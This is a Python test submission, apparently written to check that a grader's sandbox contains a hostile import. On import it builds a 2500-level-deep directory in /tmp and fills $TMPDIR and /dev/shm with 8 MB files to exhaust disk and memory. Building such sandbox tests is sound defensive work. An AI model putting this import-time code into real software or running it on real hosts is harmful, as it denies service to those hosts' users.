"""The reference, plus filling the host's disk and RAM at import, outside a namespace sandbox.

At the unprivileged-user level the worker writes to the host: its own
folder ($TMPDIR), /tmp and /dev/shm. At import this makes a folder 2500
levels deep in /tmp, then writes 8 MB files (names carry the run's marker)
into $TMPDIR and /dev/shm, slowly enough to be seen, up to 400 MB each. The
grader must stop it once the host's free space drops by more than disk_mb
(the submission then cannot be loaded), and leave nothing behind.
"""
# ==== HOSTILE ====
import os as _os
import time as _time


def _deep(top, levels=2500):
    here = _os.getcwd()
    try:
        _os.chdir(top)
        for _ in range(levels):
            _os.mkdir("deep_@MARK@")
            _os.chdir("deep_@MARK@")
    except OSError:
        pass
    finally:
        _os.chdir(here)


def _fill():
    chunk = b"x" * (8 << 20)
    for i in range(50):
        for folder in (_os.environ.get("TMPDIR", "/tmp"), "/dev/shm"):
            try:
                with open(_os.path.join(folder, f"fill_@MARK@_{i}"), "wb") as f:
                    f.write(chunk)
            except OSError:
                pass
        _time.sleep(0.02)
    print("FILLED-ALL")


_deep("/tmp")
_fill()
